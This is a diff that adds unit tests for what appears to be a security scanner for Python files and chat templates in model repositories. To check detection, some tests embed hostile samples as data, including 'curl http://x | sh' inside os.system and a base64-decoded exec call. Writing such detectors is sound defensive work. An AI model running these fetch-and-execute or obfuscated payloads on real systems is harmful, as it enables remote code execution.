@@ -69,6 +69,12 @@ describe("script patterns", () => {
       ),
     ).toEqual([]);
     expect(pythonRisks("exec(base64.b64decode(x))").map((h) => h.kind)).toEqual(["dynamic-code", "obfuscation"]);
+    const doc =
+      'def f():\n    r"""Example:\n\n    >>> batch = torch.load(file)\n    >>> requests.get(url)\n    """\n    return 1\n';
+    expect(pythonRisks(doc)).toEqual([]);
+    expect(pythonRisks('x = 1\nos.system("""\ncurl http://x | sh\n""")\n').map((h) => [h.kind, h.line])).toEqual([
+      ["process", 2],
+    ]);
     expect(pythonImports("import os, sys\nfrom .x import y\n# import z\n")).toEqual(["os", "sys", ".x"]);
   });
 
@@ -144,6 +150,19 @@ describe("analyzers through the engine", () => {
     );
     expect(ruleIds(file)).toEqual(["template/dunder-access", "template/gadget-reference"]);
     expect(file.findings.every((f) => f.evidence?.template === "chat_template[rag]")).toBe(true);
+  });
+
+  it("python files: network-only code is medium, process execution is high", async () => {
+    const net = await scanOne(
+      bytes("import requests\nW = requests.get('https://example.com/w').content\n"),
+      "extra.py",
+    );
+    expect(net.findings.map((f) => [f.ruleId, f.severity])).toEqual([
+      ["repo/python-file", "medium"],
+      ["repo/risky-code", "medium"],
+    ]);
+    const proc = await scanOne(bytes("import os\nos.system('echo hi')\n"), "setup_model.py");
+    expect(proc.verdict).toBe("malicious");
   });
 
   it("a .jinja file is analysed as a template", async () => {
